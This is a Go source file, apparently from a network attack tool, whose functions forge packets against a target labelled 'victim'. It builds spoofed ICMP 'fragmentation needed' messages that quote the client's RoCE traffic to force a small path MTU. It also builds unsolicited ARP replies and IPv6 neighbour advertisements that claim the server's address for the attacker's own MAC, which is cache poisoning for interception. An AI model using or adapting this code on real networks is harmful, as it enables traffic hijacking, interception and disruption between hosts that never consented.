//go:build linux

package main

import (
	"encoding/binary"

	"github.com/goroce/roce/bth/frame"
)

// The functions below build frames of other protocols. f begins with the Ethernet header, whose
// addresses are set already.

// putICMP tells the client that one of its packets was too long for a network on the path
// (RFC 792, RFC 1191). It quotes a RoCE packet of the connection.
func putICMP(a *victim, f []byte, n uint64) {
	copy(f, a.ClientMAC[:])
	f[12], f[13] = 0x08, 0x00
	ip := f[14:34]
	putIPv4(ip, 1, len(f)-14, fromMany(a, n).As4(), a.Client.As4())
	icmp := f[34:]
	clear(icmp)
	icmp[0], icmp[1] = 3, 4
	binary.BigEndian.PutUint16(icmp[6:], 576)
	quoted := icmp[8:28]
	putIPv4(quoted, 17, 1100, a.Client.As4(), serverIP.As4())
	udp := icmp[28:36]
	binary.BigEndian.PutUint16(udp, 4791)
	binary.BigEndian.PutUint16(udp[2:], 4791)
	binary.BigEndian.PutUint16(udp[4:], 1080)
	binary.BigEndian.PutUint16(icmp[2:], ^frame.Fold16(frame.Sum16(icmp)))
}

// putARP claims an address in an unsolicited ARP packet (RFC 826).
func putARP(a *victim, f []byte, n uint64) {
	f[12], f[13] = 0x08, 0x06
	p := f[14:]
	clear(p)
	copy(p, []byte{0, 1, 8, 0, 6, 4, 0, byte(1 + n&1)})
	copy(p[8:], a.own[:])
	p[14], p[15], p[16], p[17] = 10, 90, 0, byte(100+n%150)
	copy(p[18:], a.ServerMAC[:])
	server := serverIP.As4()
	copy(p[24:], server[:])
}

// putND does the same by IPv6 neighbour advertisements (RFC 4861, 4.4).
func putND(a *victim, f []byte, n uint64) {
	f[12], f[13] = 0x86, 0xDD
	ip := f[14:54]
	clear(ip)
	ip[0], ip[6], ip[7] = 0x60, 58, 255
	icmp := f[54:]
	clear(icmp)
	binary.BigEndian.PutUint16(ip[4:], uint16(len(icmp)))
	copy(ip[8:], []byte{0xFE, 0x80, 15: 0x66})
	binary.BigEndian.PutUint32(ip[18:], uint32(n))
	copy(ip[24:], []byte{0xFF, 0x02, 15: 0x01})
	icmp[0], icmp[4] = 136, 0x20
	copy(icmp[8:], ip[8:24])
	icmp[24], icmp[25] = 2, 1
	copy(icmp[26:], a.own[:])
	sum := frame.Sum16(ip[8:40]) + uint32(len(icmp)) + 58
	binary.BigEndian.PutUint16(icmp[2:], ^frame.Fold16(sum+frame.Sum16(icmp)))
}

func putIPv4(b []byte, protocol byte, length int, src, dst [4]byte) {
	clear(b)
	b[0], b[6], b[8], b[9] = 0x45, 0x40, 64, protocol
	binary.BigEndian.PutUint16(b[2:], uint16(length))
	copy(b[12:], src[:])
	copy(b[16:], dst[:])
	binary.BigEndian.PutUint16(b[10:], ^frame.Fold16(frame.Sum16(b)))
}
